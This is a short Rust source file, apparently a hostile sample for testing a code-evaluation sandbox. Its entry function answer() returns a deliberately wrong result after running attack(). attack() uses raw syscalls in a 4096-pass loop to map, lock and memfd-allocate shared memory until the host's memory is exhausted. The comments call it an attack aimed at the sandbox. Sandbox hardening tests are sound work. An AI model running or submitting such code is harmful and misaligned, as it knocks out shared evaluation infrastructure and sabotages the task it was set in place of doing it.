//! Maps, locks and shares memory without an end where unsafe is allowed.
//!
//! The package allows unsafe code, so nothing but the sandbox stands in the way.

use std::ffi::c_long;

unsafe extern "C" {
    fn syscall(number: c_long, ...) -> c_long;
}

/// Any system call; the numbers in this file are those of x86-64.
fn call(number: c_long, arguments: [usize; 6]) -> c_long {
    let [a, b, c, d, e, f] = arguments;
    // SAFETY: none; this is an attack.
    unsafe { syscall(number, a, b, c, d, e, f) }
}

/// What the hidden tests ask for, answered wrongly.
pub fn answer() -> u32 {
    attack();
    0
}

fn attack() {
    for _ in 0..4096 {
        // mmap(1 MiB, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS | MAP_POPULATE)
        let shared = call(9, [0, 1 << 20, 3, 0x8021, usize::MAX, 0]);
        call(149, [shared as usize, 1 << 20, 0, 0, 0, 0]); // mlock
        let file = call(319, [c"hoard".as_ptr() as usize, 0, 0, 0, 0, 0]); // memfd_create
        call(285, [file as usize, 0, 0, 1 << 20, 0, 0]); // fallocate
    }
}
